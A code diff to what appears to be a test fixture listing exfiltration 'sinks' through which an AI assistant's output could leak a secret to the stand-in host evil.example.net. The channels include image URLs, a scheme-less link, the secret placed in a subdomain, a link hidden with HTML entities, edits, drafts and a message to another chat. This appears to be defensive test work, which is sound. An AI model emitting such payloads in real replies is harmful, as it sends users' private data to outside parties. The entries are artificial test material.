@@ -75,7 +75,10 @@ export const SINKS: Sink[] = [
   { name: "a picture in HTML", deeds: [{ do: "say", text: `<img src="${EVIL}/p.png?d={secret}">` }] },
   { name: "a link without a scheme", deeds: [{ do: "say", text: "more at evil.example.net/{secret}" }] },
   { name: "a link whose host holds it", deeds: [{ do: "say", text: "more at {secret}.evil.example.net" }] },
-  { name: "a link in disguise", deeds: [{ do: "say", text: "![x](https&#58;//evil&#46;example&#46;net/{secret})" }] },
+  {
+    name: "a link in disguise",
+    deeds: [{ do: "say", text: "![x](&#104;ttps&#58;&#47;&#47;evil&#46;example&#46;net&#47;{secret})" }],
+  },
   { name: "a link in an edit", deeds: [{ do: "edit", text: `see ${EVIL}/?d={secret}` }] },
   { name: "a link in a draft", deeds: [{ do: "draft", text: `see ${EVIL}/?d={secret}` }] },
   { name: "a message to another chat", deeds: [{ do: "tell", chat: "family", text: "fyi {secret}" }] },
